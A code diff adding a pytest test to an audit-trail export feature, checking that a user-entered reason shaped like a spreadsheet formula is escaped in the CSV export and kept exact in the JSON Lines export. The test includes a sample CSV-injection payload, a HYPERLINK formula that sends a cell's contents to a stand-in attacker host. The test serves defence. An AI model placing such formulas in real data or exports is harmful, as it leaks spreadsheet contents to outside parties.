@@ -151,6 +151,20 @@ def test_the_csv_export_holds_every_filtered_event_exactly_and_is_itself_audited
     assert json.loads(exported.changes)["filter"]["new"] == {"case_id": "OOS-2026-0007"}
 
 
+def test_a_reason_typed_like_a_formula_is_exported_as_text_not_as_a_formula(app, story, admin_client):
+    """CSV injection: opening the export in a spreadsheet must never run what a user typed."""
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"details")'
+    append(app, "document.updated", "document", "DOC-0001", case_id="OOS-2026-0007", document_version=1,
+           ctx=AuditContext(story["author"].id, "Kenji Sato", "10.0.0.9"), reason=formula,
+           changes={"title": {"old": "OOS notification, lot 42", "new": "-1 lot"}})
+    rows = list(csv.DictReader(io.StringIO(
+        admin_client.get("/audit/export.csv?case_id=OOS-2026-0007").get_data(as_text=True).lstrip("\ufeff"))))
+    assert rows[-1]["reason"] == "'" + formula
+    assert json.loads(rows[-1]["changes"])["title"]["new"] == "-1 lot"  # inside JSON: not a cell start
+    stored = [json.loads(line) for line in admin_client.get("/audit/export.jsonl").get_data(as_text=True).splitlines()]
+    assert formula in [event["reason"] for event in stored]  # the JSON Lines copy stays exact
+
+
 @pytest.mark.req("11.10(b)")
 @pytest.mark.req("ALCOA+")
 def test_the_json_lines_export_can_be_rehashed_to_the_stored_chain(app, story, admin_client):
